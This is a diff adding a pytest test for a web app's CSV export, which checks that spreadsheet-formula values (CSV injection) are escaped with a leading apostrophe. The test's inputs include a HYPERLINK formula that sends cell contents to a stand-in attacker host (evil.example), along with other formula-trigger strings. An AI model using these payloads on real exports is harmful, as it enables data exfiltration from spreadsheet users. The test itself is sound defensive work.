@@ -99,6 +99,25 @@ def test_export_csv_tables(viewer_api, finished):
     assert viewer_api.get(url, {"format": "csv", "table": "nope"}).status_code == 400
 
 
+@pytest.mark.parametrize(
+    "hostile",
+    ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+SUM(1,2)", "-2+3", "@SUM(A1)",
+     "\t=1+1", "\r=1+1"],
+)  # fmt: skip
+def test_export_csv_neutralises_cells_a_spreadsheet_would_run(viewer_api, finished, hostile):
+    """OWASP's CSV injection: a name the user wrote must not become a formula."""
+    EndpointStats.objects.filter(session=finished).update(name=hostile, method="-GET")
+    url = f"/api/sessions/{finished.pk}/export/"
+    answer = viewer_api.get(url, {"format": "csv"})
+    (row,) = csv.DictReader(io.StringIO(answer.content.decode(), newline=""))
+    assert (row["endpoint"], row["method"]) == ("'" + hostile, "'-GET")
+    assert (row["requests"], row["p95_ms"]) == ("30", "40.0")
+    finished.flow_stats.create(name=hostile, iterations=3)
+    flows = viewer_api.get(url, {"format": "csv", "table": "flows"})
+    (flow,) = csv.DictReader(io.StringIO(flows.content.decode(), newline=""))
+    assert flow["flow"] == "'" + hostile
+
+
 def test_clone_makes_a_pending_copy(api, finished):
     response = api.post(f"/api/sessions/{finished.pk}/clone/")
     assert response.status_code == 201
